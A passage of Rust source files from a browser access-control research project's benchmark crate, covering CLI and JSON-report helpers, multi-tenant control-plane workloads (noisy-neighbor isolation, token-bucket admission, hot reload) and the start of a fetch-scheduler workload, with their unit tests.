                "WARN: {threads} threads at {:.2}x single-thread aggregate (within the {:.0}% \
                 no-collapse tolerance; timing noise on a starved runner?)",
                aggregate / single,
                fraction * 100.0
            );
        }
    }
    failed
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_flag_accepts_both_spellings_and_defaults() {
        let args: Vec<String> = ["bench", "--threads", "4", "--passes=200"]
            .iter()
            .map(ToString::to_string)
            .collect();
        assert_eq!(parse_flag(&args, "--threads", 8), 4);
        assert_eq!(parse_flag(&args, "--passes", 800), 200);
        assert_eq!(parse_flag(&args, "--missing", 7), 7);
    }

    #[test]
    fn no_collapse_gate_flags_only_real_collapses() {
        // Beats single-thread, ties within tolerance, collapses below it.
        assert!(!no_collapse_gate("widget", &[(1, 100.0), (2, 150.0)], 0.85));
        assert!(!no_collapse_gate("widget", &[(1, 100.0), (2, 90.0)], 0.85));
        assert!(no_collapse_gate("widget", &[(1, 100.0), (2, 50.0)], 0.85));
        // The baseline itself is never gated.
        assert!(!no_collapse_gate("widget", &[(1, 100.0)], 0.85));
    }
}
