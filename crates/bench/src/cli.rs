//! Shared scaffolding for the `harness = false` bench binaries: flag parsing,
//! the multi-thread no-collapse gate and the machine-readable `--json` report
//! writer, kept in one place so the bench binaries cannot drift apart.

use std::fmt::Write as _;

/// Parses `--flag value` or `--flag=value`; exits with a diagnostic on a malformed
/// value rather than silently benchmarking a different configuration.
#[must_use]
pub fn parse_flag(args: &[String], flag: &str, default: usize) -> usize {
    for (i, arg) in args.iter().enumerate() {
        let value = if arg == flag {
            args.get(i + 1).map(String::as_str)
        } else if let Some(rest) = arg.strip_prefix(flag) {
            rest.strip_prefix('=')
        } else {
            continue;
        };
        return match value.map(str::parse) {
            Some(Ok(parsed)) => parsed,
            _ => {
                eprintln!("error: {flag} requires a numeric value (got {value:?})");
                std::process::exit(2);
            }
        };
    }
    default
}

/// Applies the multi-thread no-collapse gate to `(threads, aggregate-per-second)`
/// samples, the first of which is the single-thread baseline. Prints `ok` when a
/// thread count beats single-thread, `WARN` when it lands inside the tolerance
/// (on a starved single-core runner a multi-thread aggregate can only tie), and
/// `FAIL` when the aggregate collapsed below `fraction` of single-thread — the
/// global-lock convoy signature. Returns `true` when any sample failed.
///
/// `unit` names what is being counted (e.g. `"decision"`, `"header"`).
#[must_use]
pub fn no_collapse_gate(unit: &str, samples: &[(usize, f64)], fraction: f64) -> bool {
    let single = samples[0].1;
    let mut failed = false;
    for &(threads, aggregate) in &samples[1..] {
        if aggregate < single * fraction {
            eprintln!(
                "FAIL: aggregate {unit} throughput at {threads} threads ({aggregate:.0}/s) \
                 collapsed below {:.0}% of single-thread ({single:.0}/s) — global-lock convoy",
                fraction * 100.0
            );
            failed = true;
        } else if aggregate >= single {
            println!(
                "ok: {threads} threads sustain {:.2}x single-thread aggregate {unit} throughput",
                aggregate / single
            );
        } else {
            println!(
                "WARN: {threads} threads at {:.2}x single-thread aggregate (within the {:.0}% \
                 no-collapse tolerance; timing noise on a starved runner?)",
                aggregate / single,
                fraction * 100.0
            );
        }
    }
    failed
}

/// Parses the `--json <path>` / `--json=<path>` flag: when present, the bench
/// writes its machine-readable report there ([`JsonReport::write`]). Exits with
/// a diagnostic on a missing value.
#[must_use]
pub fn parse_json_flag(args: &[String]) -> Option<String> {
    for (i, arg) in args.iter().enumerate() {
        let value = if arg == "--json" {
            args.get(i + 1).map(String::as_str)
        } else if let Some(rest) = arg.strip_prefix("--json=") {
            Some(rest)
        } else {
            continue;
        };
        return match value {
            Some(path) if !path.is_empty() && !path.starts_with("--") => Some(path.to_string()),
            _ => {
                eprintln!("error: --json requires a file path");
                std::process::exit(2);
            }
        };
    }
    None
}

/// A flat machine-readable bench report: one named object of numeric/string
/// results, rendered as JSON without any external dependency. This is what
/// seeds the perf trajectory (`BENCH_5.json` in CI): throughputs, hit rates and
/// speedups in a form later PRs can diff and gate against.
#[derive(Debug, Clone)]
pub struct JsonReport {
    bench: String,
    fields: Vec<(String, String)>,
}

impl JsonReport {
    /// Starts a report for the named bench binary.
    #[must_use]
    pub fn new(bench: &str) -> Self {
        JsonReport {
            bench: bench.to_string(),
            fields: Vec::new(),
        }
    }

    /// Records a float result (non-finite values render as `null`).
    pub fn num(&mut self, key: &str, value: f64) -> &mut Self {
        let rendered = if value.is_finite() {
            format!("{value:.3}")
        } else {
            "null".to_string()
        };
        self.fields.push((key.to_string(), rendered));
        self
    }

    /// Records an integer result.
    pub fn int(&mut self, key: &str, value: u64) -> &mut Self {
        self.fields.push((key.to_string(), value.to_string()));
        self
    }

    /// Records a boolean result (e.g. a gate verdict).
    pub fn flag(&mut self, key: &str, value: bool) -> &mut Self {
        self.fields.push((key.to_string(), value.to_string()));
        self
    }

    /// Records a string result.
    pub fn text(&mut self, key: &str, value: &str) -> &mut Self {
        self.fields
            .push((key.to_string(), format!("\"{}\"", escape_json(value))));
        self
    }

    /// Renders the report as one JSON object:
    /// `{"bench": "...", "results": {...}}`.
    #[must_use]
    pub fn render(&self) -> String {
        let mut out = String::new();
        let _ = write!(out, "{{\"bench\": \"{}\"", escape_json(&self.bench));
        out.push_str(", \"results\": {");
        for (i, (key, value)) in self.fields.iter().enumerate() {
            if i > 0 {
                out.push_str(", ");
            }
            let _ = write!(out, "\"{}\": {value}", escape_json(key));
        }
        out.push_str("}}");
        out
    }

    /// Writes the rendered report to `path` (with a trailing newline) and
    /// prints where it went, so CI logs show the artifact trail.
    ///
    /// # Errors
    ///
    /// Propagates the underlying I/O error (missing directory, permissions).
    pub fn write(&self, path: &str) -> std::io::Result<()> {
        std::fs::write(path, self.render() + "\n")?;
        println!("json report written to {path}");
        Ok(())
    }

    /// Writes the report if `--json` was given, exiting with a diagnostic when
    /// the path is unwritable — a CI misconfiguration must fail loudly, not
    /// silently skip the artifact.
    pub fn write_if_requested(&self, args: &[String]) {
        if let Some(path) = parse_json_flag(args) {
            if let Err(error) = self.write(&path) {
                eprintln!("error: cannot write --json report to {path}: {error}");
                std::process::exit(2);
            }
        }
    }
}

fn escape_json(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_flag_accepts_both_spellings_and_defaults() {
        let args: Vec<String> = ["bench", "--threads", "4", "--passes=200"]
            .iter()
            .map(ToString::to_string)
            .collect();
        assert_eq!(parse_flag(&args, "--threads", 8), 4);
        assert_eq!(parse_flag(&args, "--passes", 800), 200);
        assert_eq!(parse_flag(&args, "--missing", 7), 7);
    }

    #[test]
    fn json_flag_is_parsed_in_both_spellings() {
        let args: Vec<String> = ["bench", "--json", "out.json"]
            .iter()
            .map(ToString::to_string)
            .collect();
        assert_eq!(parse_json_flag(&args).as_deref(), Some("out.json"));
        let args: Vec<String> = ["bench", "--json=a/b.json"]
            .iter()
            .map(ToString::to_string)
            .collect();
        assert_eq!(parse_json_flag(&args).as_deref(), Some("a/b.json"));
        assert_eq!(parse_json_flag(&["bench".to_string()]), None);
    }

    #[test]
    fn json_report_renders_flat_results() {
        let mut report = JsonReport::new("demo");
        report
            .num("speedup", 2.5)
            .int("threads", 8)
            .flag("passed", true)
            .text("note", "a \"quoted\" path\\");
        let rendered = report.render();
        assert_eq!(
            rendered,
            "{\"bench\": \"demo\", \"results\": {\"speedup\": 2.500, \"threads\": 8, \
             \"passed\": true, \"note\": \"a \\\"quoted\\\" path\\\\\"}}"
        );
        // Non-finite numbers degrade to null instead of invalid JSON.
        let mut bad = JsonReport::new("nan");
        bad.num("x", f64::NAN);
        assert!(bad.render().contains("\"x\": null"));
    }

    #[test]
    fn json_report_round_trips_through_a_file() {
        let mut report = JsonReport::new("file");
        report.int("value", 7);
        let path = std::env::temp_dir().join("escudo_bench_json_test.json");
        let path = path.to_str().expect("utf-8 temp path");
        report.write(path).expect("write json report");
        let read = std::fs::read_to_string(path).expect("read back");
        assert_eq!(read.trim_end(), report.render());
        let _ = std::fs::remove_file(path);
    }

    #[test]
    fn no_collapse_gate_flags_only_real_collapses() {
        // Beats single-thread, ties within tolerance, collapses below it.
        assert!(!no_collapse_gate("widget", &[(1, 100.0), (2, 150.0)], 0.85));
        assert!(!no_collapse_gate("widget", &[(1, 100.0), (2, 90.0)], 0.85));
        assert!(no_collapse_gate("widget", &[(1, 100.0), (2, 50.0)], 0.85));
        // The baseline itself is never gated.
        assert!(!no_collapse_gate("widget", &[(1, 100.0)], 0.85));
    }
}
