//! Control-plane workloads: noisy-neighbor isolation, admission control and
//! hot reload under storm.
//!
//! ISSUE 7's control plane makes three promises that only hold — or fail —
//! under concurrency, so each gets a driver the `tenant_concurrent` bench and
//! the CI gate are built on:
//!
//! * [`run_noisy_neighbor`] — tenant A hammers its own engine with a
//!   cache-churning storm while tenant B replays a warm fixed grid; per-tenant
//!   caches are independent, so B's evictions must stay at zero and its hit
//!   rate at warm levels no matter what A does. B's p99 batch latency is
//!   measured alone (baseline) and under the storm (contended), best-of-N with
//!   the spread recorded so the trajectory comparator can derive a noise floor.
//! * [`run_admission_burst`] — a token bucket with no refill is exactly
//!   countable: firing `fired` single-check plans against `burst` tokens must
//!   admit precisely `burst` and shed the rest fail-closed
//!   ([`DenyReason::Throttled`]).
//! * [`run_admission_refill`] — refill is exactly countable too, now that the
//!   bucket meters against an injectable clock: a [`ManualClock`] is stepped
//!   window-by-window and every window must mint precisely
//!   `step_ns × refill_per_sec / 1e9` tokens, no more, no fewer.
//! * [`run_hot_reload_storm`] — reader threads stream `check_many` plans
//!   through a shared [`Tenant`] while the control plane swaps the engine
//!   between the ESCUDO and same-origin generations. Every observed plan must
//!   be byte-identical to exactly **one** generation's [`policy::decide`]
//!   oracle (a torn plan matches neither), no decision may be dropped or
//!   throttled, and every retired generation must actually drop (a [`Weak`]
//!   witness per swap).
//!
//! [`policy::decide`]: escudo_core::policy::decide

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Barrier};
use std::thread;
use std::time::Instant;

use escudo_core::policy::decide;
use escudo_core::tenant::{Clock, ManualClock, Tenant, TenantConfig, TenantRegistry};
use escudo_core::{Decision, DenyReason, EngineStats, PolicyMode};

use escudo_browser::Erm;

use crate::workload::{decision_workload, DecisionCheck};

/// Outcome of the noisy-neighbor isolation run.
#[derive(Debug, Clone)]
pub struct NoisyNeighborReport {
    /// Storm threads tenant A ran.
    pub storm_threads: usize,
    /// Warm-grid batches tenant B measured per repeat.
    pub batches: usize,
    /// Best-of-N p99 of B's batch latency with A idle, in nanoseconds.
    pub baseline_p99_ns: u64,
    /// Spread (max − min) of the baseline p99 across repeats.
    pub baseline_p99_spread_ns: u64,
    /// Best-of-N p99 of B's batch latency under A's storm, in nanoseconds.
    pub contended_p99_ns: u64,
    /// Spread (max − min) of the contended p99 across repeats.
    pub contended_p99_spread_ns: u64,
    /// B's cache hit rate over the whole run (warmup misses included).
    pub victim_hit_rate: f64,
    /// Capacity evictions on B's engine — must be 0, A cannot reach B's cache.
    pub victim_evictions: u64,
    /// Decisions B's engine served.
    pub victim_decisions: u64,
    /// Decisions A's storm pushed through its own engine.
    pub storm_decisions: u64,
    /// Capacity evictions the storm forced on A's own (deliberately small) cache.
    pub storm_evictions: u64,
}

/// Sorted-sample p99 (the smallest value ≥ 99% of samples).
fn p99_ns(samples: &mut [u64]) -> u64 {
    assert!(!samples.is_empty(), "p99 of an empty sample set");
    samples.sort_unstable();
    let index = (samples.len() * 99).div_ceil(100).saturating_sub(1);
    samples[index]
}

/// One measured repeat: `batches` × `decide_many` over the warm grid, p99 of
/// the per-batch latencies.
fn measure_victim_p99(erm: &mut Erm, grid: &[DecisionCheck], batches: usize) -> u64 {
    let checks: Vec<(
        &escudo_core::PrincipalContext,
        &escudo_core::ObjectContext,
        escudo_core::Operation,
    )> = grid.iter().map(|(p, o, op)| (p, o, *op)).collect();
    let mut samples = Vec::with_capacity(batches);
    for _ in 0..batches {
        let start = Instant::now();
        let decisions = erm.check_many(&checks);
        assert_eq!(decisions.len(), checks.len());
        samples.push(u64::try_from(start.elapsed().as_nanos()).unwrap_or(u64::MAX));
    }
    p99_ns(&mut samples)
}

/// Runs tenant B's warm fixed grid against tenant A's cache-churning storm.
///
/// `repeats` is the best-of-N bound for both the baseline and the contended
/// p99 (minimum reported, spread recorded).
#[must_use]
pub fn run_noisy_neighbor(
    storm_threads: usize,
    batches: usize,
    repeats: usize,
) -> NoisyNeighborReport {
    let storm_threads = storm_threads.max(1);
    let batches = batches.max(1);
    let repeats = repeats.max(1);

    let registry = TenantRegistry::new();
    // Tenant B: the victim, default cache, a small warm grid it never leaves.
    let victim = registry.register("victim", TenantConfig::default());
    // Tenant A: the noisy neighbor, a deliberately tiny cache so its large
    // distinct workload churns — every pass evicts and refills its own shards.
    let noisy = registry.register(
        "noisy",
        TenantConfig::default()
            .with_cache_capacity(256)
            .with_shards(1),
    );

    let victim_grid = decision_workload(8, 8); // 64 warm pairs
    let churn_grid = decision_workload(40, 40); // 1600 distinct pairs ≫ cache
    let mut victim_erm = Erm::with_tenant(Arc::clone(&victim)).without_audit();

    // Warm B's cache, then measure it alone.
    let warm: Vec<_> = victim_grid.iter().map(|(p, o, op)| (p, o, *op)).collect();
    victim_erm.check_many(&warm);
    let mut baseline: Vec<u64> = (0..repeats)
        .map(|_| measure_victim_p99(&mut victim_erm, &victim_grid, batches))
        .collect();
    baseline.sort_unstable();
    let (baseline_p99_ns, baseline_spread) =
        (baseline[0], baseline[baseline.len() - 1] - baseline[0]);

    // Contended phase: A's storm threads run flat out — each pass is 10 warm
    // grids' worth of distinct decisions, the 10× load of the gate — while B
    // re-measures the identical workload.
    let stop = AtomicBool::new(false);
    let start_line = Barrier::new(storm_threads + 1);
    let mut contended: Vec<u64> = Vec::with_capacity(repeats);
    thread::scope(|scope| {
        for _ in 0..storm_threads {
            scope.spawn(|| {
                let mut erm = Erm::with_tenant(Arc::clone(&noisy)).without_audit();
                let churn: Vec<_> = churn_grid.iter().map(|(p, o, op)| (p, o, *op)).collect();
                start_line.wait();
                // Do-while: even on a starved single-core host every storm
                // thread pushes at least one full churn pass, so the report's
                // storm counters are never silently zero.
                loop {
                    erm.check_many(&churn);
                    if stop.load(Ordering::Relaxed) {
                        break;
                    }
                }
            });
        }
        start_line.wait();
        for _ in 0..repeats {
            contended.push(measure_victim_p99(&mut victim_erm, &victim_grid, batches));
        }
        stop.store(true, Ordering::Relaxed);
    });
    contended.sort_unstable();
    let (contended_p99_ns, contended_spread) =
        (contended[0], contended[contended.len() - 1] - contended[0]);

    let victim_stats: EngineStats = victim.engine_stats();
    let storm_stats: EngineStats = noisy.engine_stats();
    NoisyNeighborReport {
        storm_threads,
        batches,
        baseline_p99_ns,
        baseline_p99_spread_ns: baseline_spread,
        contended_p99_ns,
        contended_p99_spread_ns: contended_spread,
        victim_hit_rate: victim_stats.hit_rate(),
        victim_evictions: victim_stats.evictions,
        victim_decisions: victim_stats.decisions,
        storm_decisions: storm_stats.decisions,
        storm_evictions: storm_stats.evictions,
    }
}

/// Outcome of the deterministic admission-control run.
#[derive(Debug, Clone, Copy)]
pub struct AdmissionReport {
    /// Token-bucket burst capacity (refill is zero — the bucket never refills).
    pub burst: u64,
    /// Single-check plans fired.
    pub fired: u64,
    /// Checks the bucket admitted (must equal `burst`).
    pub admitted: u64,
    /// Checks the bucket shed (must equal `fired - burst`).
    pub rejected: u64,
    /// Denials attributed to [`DenyReason::Throttled`] (must equal `rejected`).
    pub throttled_denials: u64,
}

/// Fires `fired` single-check mediation plans at a tenant whose bucket holds
/// exactly `burst` tokens and never refills, then tallies the outcome.
#[must_use]
pub fn run_admission_burst(burst: u64, fired: u64) -> AdmissionReport {
    let tenant = Arc::new(Tenant::new(
        "metered",
        TenantConfig::default().with_admission(burst, 0),
    ));
    let mut erm = Erm::with_tenant(Arc::clone(&tenant)).without_audit();
    let grid = decision_workload(2, 2);
    let (principal, object, operation) = &grid[0];
    let mut throttled_denials = 0;
    for _ in 0..fired {
        let decision = erm.check(principal, object, *operation);
        if decision.deny_reason() == Some(&DenyReason::Throttled) {
            throttled_denials += 1;
        }
    }
    let stats = tenant.admission().stats();
    AdmissionReport {
        burst,
        fired,
        admitted: stats.admitted,
        rejected: stats.rejected,
        throttled_denials,
    }
}

/// Outcome of the deterministic virtual-clock refill run.
#[derive(Debug, Clone, Copy)]
pub struct RefillReport {
    /// Token-bucket burst capacity.
    pub burst: u64,
    /// Refill rate in tokens per second.
    pub refill_per_sec: u64,
    /// Refill windows the manual clock stepped through.
    pub steps: u64,
    /// Nanoseconds the clock advanced per step.
    pub step_ns: u64,
    /// Checks admitted across the run (the initial burst plus every refilled
    /// token — exactly `burst + steps * step_ns * refill_per_sec / 1e9` when
    /// each window's mint is drained in full).
    pub admitted: u64,
    /// Checks shed by the probe that closes each drained window.
    pub rejected: u64,
    /// Denials attributed to [`DenyReason::Throttled`] (must equal `rejected`).
    pub throttled_denials: u64,
}

/// Drains a refilling bucket window-by-window against a [`ManualClock`]:
/// drain the initial burst, then `steps` times advance the clock by `step_ns`
/// and drain exactly the tokens that window minted, probing once past empty
/// each window so the shed count is exact too. Wall-clock speed never changes
/// the outcome — the clock only moves when the driver says so.
#[must_use]
pub fn run_admission_refill(
    burst: u64,
    refill_per_sec: u64,
    steps: u64,
    step_ns: u64,
) -> RefillReport {
    let clock = Arc::new(ManualClock::new());
    let tenant = Arc::new(Tenant::with_clock(
        "refilled",
        TenantConfig::default().with_admission(burst, refill_per_sec),
        Arc::clone(&clock) as Arc<dyn Clock>,
    ));
    let mut erm = Erm::with_tenant(Arc::clone(&tenant)).without_audit();
    let grid = decision_workload(2, 2);
    let (principal, object, operation) = &grid[0];
    let mut throttled_denials = 0u64;
    let mut fire = |shots: u64, throttled_denials: &mut u64| {
        for _ in 0..shots {
            let decision = erm.check(principal, object, *operation);
            if decision.deny_reason() == Some(&DenyReason::Throttled) {
                *throttled_denials += 1;
            }
        }
    };

    // Drain the initial burst, then probe once to prove the bucket is empty.
    fire(burst + 1, &mut throttled_denials);
    let minted_per_step = (step_ns as f64 / 1e9 * refill_per_sec as f64).floor() as u64;
    for _ in 0..steps {
        clock.advance_ns(step_ns);
        // Drain exactly what the window minted, plus one probe past empty.
        fire(minted_per_step + 1, &mut throttled_denials);
    }

    let stats = tenant.admission().stats();
    RefillReport {
        burst,
        refill_per_sec,
        steps,
        step_ns,
        admitted: stats.admitted,
        rejected: stats.rejected,
        throttled_denials,
    }
}

/// Outcome of the hot-reload-under-storm run.
#[derive(Debug, Clone, Copy)]
pub struct HotReloadReport {
    /// Reader threads streaming plans through the tenant.
    pub threads: usize,
    /// Plans each reader issued.
    pub passes: usize,
    /// Generation swaps the control plane performed mid-storm.
    pub swaps: usize,
    /// Total decisions observed across all readers.
    pub decisions: u64,
    /// Plans matching **neither** generation's oracle byte-for-byte.
    pub torn_plans: u64,
    /// Decisions dropped, missing or throttled (tenant is unmetered: must be 0).
    pub dropped_decisions: u64,
    /// Distinct generations the readers observed.
    pub generations_seen: usize,
    /// Retired generations still alive after every reader dropped (leak).
    pub retired_generations_alive: usize,
}

/// Streams `check_many` plans from `threads` readers through one tenant while
/// the control plane swaps the engine between ESCUDO and same-origin
/// generations `swaps` times.
///
/// # Panics
///
/// Panics if the two mode oracles agree on the whole grid — the torn-plan gate
/// would be vacuous.
#[must_use]
pub fn run_hot_reload_storm(threads: usize, passes: usize, swaps: usize) -> HotReloadReport {
    let threads = threads.max(1);
    let passes = passes.max(1);
    let swaps = swaps.max(1);

    let grid = decision_workload(6, 6);
    let escudo_oracle: Vec<Decision> = grid
        .iter()
        .map(|(p, o, op)| decide(PolicyMode::Escudo, p, o, *op))
        .collect();
    let sop_oracle: Vec<Decision> = grid
        .iter()
        .map(|(p, o, op)| decide(PolicyMode::SameOriginOnly, p, o, *op))
        .collect();
    assert_ne!(
        escudo_oracle, sop_oracle,
        "reload grid must distinguish the two generations"
    );

    let tenant = Arc::new(Tenant::new("reloaded", TenantConfig::default()));
    let start_line = Barrier::new(threads + 1);
    let mut witnesses = Vec::with_capacity(swaps);
    let mut torn_plans = 0u64;
    let mut dropped_decisions = 0u64;
    let mut decisions = 0u64;
    let mut generations: Vec<u64> = Vec::new();

    thread::scope(|scope| {
        let mut readers = Vec::with_capacity(threads);
        for _ in 0..threads {
            readers.push(scope.spawn(|| {
                let mut erm = Erm::with_tenant(Arc::clone(&tenant)).without_audit();
                let checks: Vec<_> = grid.iter().map(|(p, o, op)| (p, o, *op)).collect();
                let mut torn = 0u64;
                let mut dropped = 0u64;
                let mut seen_generations: Vec<u64> = Vec::new();
                start_line.wait();
                for _ in 0..passes {
                    let observed = erm.check_many(&checks);
                    if observed.len() != checks.len()
                        || observed
                            .iter()
                            .any(|d| d.deny_reason() == Some(&DenyReason::Throttled))
                    {
                        dropped += 1;
                    } else if observed != escudo_oracle && observed != sop_oracle {
                        torn += 1;
                    }
                    let generation = erm.generation().expect("tenant-bound monitor");
                    if !seen_generations.contains(&generation) {
                        seen_generations.push(generation);
                    }
                }
                (
                    torn,
                    dropped,
                    passes as u64 * checks.len() as u64,
                    seen_generations,
                )
            }));
        }

        // The control plane: alternate the published generation mid-storm,
        // keeping a Weak witness on every retired generation.
        start_line.wait();
        for swap in 0..swaps {
            let mode = if swap % 2 == 0 {
                PolicyMode::SameOriginOnly
            } else {
                PolicyMode::Escudo
            };
            let retired =
                tenant.reload_with(TenantConfig::default().with_mode(mode).build_engine());
            witnesses.push(Arc::downgrade(&retired));
            drop(retired);
            thread::yield_now();
        }

        for reader in readers {
            let (torn, dropped, observed, seen_generations) = reader.join().expect("reader thread");
            torn_plans += torn;
            dropped_decisions += dropped;
            decisions += observed;
            for generation in seen_generations {
                if !generations.contains(&generation) {
                    generations.push(generation);
                }
            }
        }
    });

    // Every reader has dropped its pinned generation; only the handle's current
    // generation may still be alive, and it was never retired.
    let retired_generations_alive = witnesses
        .iter()
        .filter(|witness| witness.upgrade().is_some())
        .count();

    HotReloadReport {
        threads,
        passes,
        swaps,
        decisions,
        torn_plans,
        dropped_decisions,
        generations_seen: generations.len(),
        retired_generations_alive,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn noisy_neighbor_never_touches_the_victims_cache() {
        let report = run_noisy_neighbor(2, 10, 2);
        assert_eq!(report.victim_evictions, 0);
        assert!(
            report.victim_hit_rate > 0.9,
            "rate {}",
            report.victim_hit_rate
        );
        assert!(report.storm_evictions > 0, "storm must churn its own cache");
        assert!(report.baseline_p99_ns > 0 && report.contended_p99_ns > 0);
    }

    #[test]
    fn admission_burst_is_exactly_countable() {
        let report = run_admission_burst(5, 12);
        assert_eq!(report.admitted, 5);
        assert_eq!(report.rejected, 7);
        assert_eq!(report.throttled_denials, 7);
    }

    #[test]
    fn admission_refill_is_exact_under_the_manual_clock() {
        // 8 tokens/sec, 125 ms windows: each window mints exactly one token
        // (0.125 is exact in binary, so no float drift across windows).
        let report = run_admission_refill(4, 8, 6, 125_000_000);
        assert_eq!(report.admitted, 4 + 6);
        assert_eq!(report.rejected, 1 + 6, "one probe past empty per window");
        assert_eq!(report.throttled_denials, report.rejected);
    }

    #[test]
    fn hot_reload_storm_observes_no_torn_plans_and_no_leaks() {
        let report = run_hot_reload_storm(4, 50, 6);
        assert_eq!(report.torn_plans, 0);
        assert_eq!(report.dropped_decisions, 0);
        assert_eq!(report.retired_generations_alive, 0);
        assert!(report.generations_seen >= 1);
        assert_eq!(report.decisions, 4 * 50 * 36);
    }
}
