//! # escudo-bench
//!
//! The experiment harness that regenerates the ESCUDO paper's evaluation:
//!
//! * [`workload`] — the Figure 4 page generator: eight scenarios with varying numbers
//!   of AC-tagged regions and dynamic content,
//! * [`cli`] — flag parsing, the no-collapse gate and the `--json` report writer
//!   shared by the `harness = false` bench binaries,
//! * [`interner`] — the first-touch-storm workload racing the lock-free
//!   [`escudo_core::ContextInterner`] against the retained `RwLock<ContextTable>`
//!   reference, behind `interner_concurrent`,
//! * [`measure`] — timed page loads and event dispatches under either policy mode,
//! * [`concurrent`] — the multi-session workload: N OS threads driving independent
//!   forum/blog/calendar sessions against one shared sharded engine, plus the
//!   concurrent decision-throughput measurement behind `policy_concurrent`,
//! * [`loader`] — the pipelined-subresource-loader workload over a shared network
//!   fabric with simulated per-origin latency: pipelined-vs-sequential page-load
//!   timing, the byte-identical log oracle and the shared-fabric isolation run
//!   behind `loader_concurrent`,
//! * [`scheduler`] — the unified-fetch-scheduler workload behind
//!   `scheduler_concurrent`: navigation-lane p99 latency under a bulk storm,
//!   the speculative-prefetch speedup, the prefetch-on-vs-off mediation oracle
//!   and the prefetching-session isolation run,
//! * [`cache`] — the mediation-keyed response-cache workloads behind
//!   `cache_concurrent`: repeat-navigation speedup, the cache-on-vs-off
//!   scenario-matrix oracle, cookie-header key isolation, the exactly-countable
//!   manual-clock TTL walk and batch-level single-flight coalescing,
//! * [`fault`] — the chaos workloads behind `fault_concurrent`: the scenario
//!   matrix replayed under injected fault schedules (verdicts and mediation
//!   counts must not move), the retry mediation oracle, and the
//!   exactly-countable breaker drill on a manual clock,
//! * [`tenant`] — the control-plane workloads behind `tenant_concurrent`:
//!   noisy-neighbor isolation across per-tenant engines, deterministic
//!   token-bucket admission, and the hot-reload-under-storm oracle run,
//! * [`trajectory`] — the perf-trajectory comparator that diffs a fresh merged
//!   bench report against the committed `BENCH_<PR>.json` snapshot (the
//!   `trajectory` binary CI gates each PR with),
//! * [`experiments`] — the report types printed by the `experiments` binary and
//!   recorded in `EXPERIMENTS.md` (Figure 4, UI events, §6.3, §6.4, Tables 1–5).
//!
//! The Criterion benches in `benches/` use the same workload and measurement code, so
//! `cargo bench` and `cargo run --bin experiments` agree on what is being measured.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod cache;
pub mod cli;
pub mod concurrent;
pub mod experiments;
pub mod fault;
pub mod interner;
pub mod loader;
pub mod measure;
pub mod scheduler;
pub mod tenant;
pub mod trajectory;
pub mod workload;

pub use concurrent::{
    best_throughput, measure_concurrent_throughput, run_concurrent_sessions, SessionWorkloadReport,
    ThroughputSample,
};
pub use experiments::{CompatReport, EventReport, Figure4Report, Figure4Row};
pub use measure::{load_once, measure_decision_paths, DecisionReport, LoadSample};
pub use workload::{decision_workload, figure4_scenarios, generate_page, DecisionCheck, Scenario};
