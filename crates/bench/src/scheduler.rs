//! The unified-fetch-scheduler workload: navigation latency under a bulk
//! storm, speculative-prefetch speedup, and the prefetch mediation oracle.
//!
//! This module backs the `scheduler_concurrent` bench and its CI gates:
//!
//! * [`run_navigation_storm`] — one navigation-heavy session measures p99 page
//!   latency while N sibling sessions flood the **same** fabric's worker pool
//!   with bulk image batches. The two-lane queue (navigation tickets jump the
//!   bulk backlog, bulk drains yield at request boundaries) is what keeps the
//!   loaded p99 within a small factor of the unloaded baseline.
//! * [`run_prefetch_speedup`] — a hub page carries `rel=prefetch` markup for
//!   the next page; with speculation enabled the repeat navigation is served
//!   from the prefetch cache and skips the origin's simulated latency
//!   entirely.
//! * [`run_prefetch_oracle`] — the same navigation sequence on two
//!   identically-built fabrics, prefetch on vs off: the sequence-sorted
//!   request logs and per-subresource attached cookie names must be
//!   **byte-identical**, because speculation dispatches unlogged and a
//!   consumed hit is logged exactly as the live dispatch would have been —
//!   prefetch may only ever change *when* bytes move, never what ESCUDO
//!   decides.
//! * [`run_prefetch_sessions`] — N prefetching sessions over one shared
//!   fabric + jar + engine, scanned for cross-session cookie leakage: a
//!   prefetch cache entry is keyed by its mediation plan (the exact cookie
//!   header), so one session's speculation can never serve another session's
//!   state.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use escudo_browser::Browser;
use escudo_core::config::CookiePolicy;
use escudo_core::{engine_for_mode, Acl, PolicyMode, Ring};
use escudo_net::{Request, Response, SetCookie, SharedCookieJar, SharedNetwork};

use crate::loader::register_loader_world;

/// Per-origin simulated latency of the navigation site's render-blocking
/// subresources: three critical origins at 100µs keep the batch's estimated
/// service time above the loader's 150µs fan-out cutover, so the navigation
/// *lane* (not the inline path) is what the storm measurement exercises.
pub const NAV_CRITICAL_LATENCY: Duration = Duration::from_micros(100);

/// The URL the navigation-storm session loads repeatedly.
pub const NAV_PAGE_URL: &str = "http://nav.example/index.php";

/// Registers the navigation site on `fabric`: a latency-free page host whose
/// markup pulls one stylesheet and two scripts from three dedicated asset
/// origins, each with [`NAV_CRITICAL_LATENCY`] simulated service time.
pub fn register_nav_world(fabric: &SharedNetwork, host: &str) {
    let html = format!(
        "<html><head><link rel=\"stylesheet\" href=\"http://css.{host}/site.css\"></head>\
         <body ring=\"1\" r=\"1\" w=\"1\" x=\"1\">\
         <script src=\"http://js0.{host}/a.js\"></script>\
         <script src=\"http://js1.{host}/b.js\"></script>\
         </body></html>"
    );
    fabric.register(&format!("http://{host}"), move |_req: &Request| {
        Response::ok_html(html.clone())
    });
    for sub in ["css", "js0", "js1"] {
        let origin = format!("http://{sub}.{host}");
        fabric.register(&origin, |req: &Request| {
            Response::ok_text(format!("asset {}", req.url.path()))
        });
        fabric.set_latency(&origin, NAV_CRITICAL_LATENCY);
    }
}

/// The outcome of the navigation-under-bulk-storm measurement.
#[derive(Debug, Clone, Copy, Default)]
pub struct NavStormReport {
    /// Bulk sessions flooding the shared pool during the loaded run.
    pub bulk_sessions: usize,
    /// Timed navigations per run.
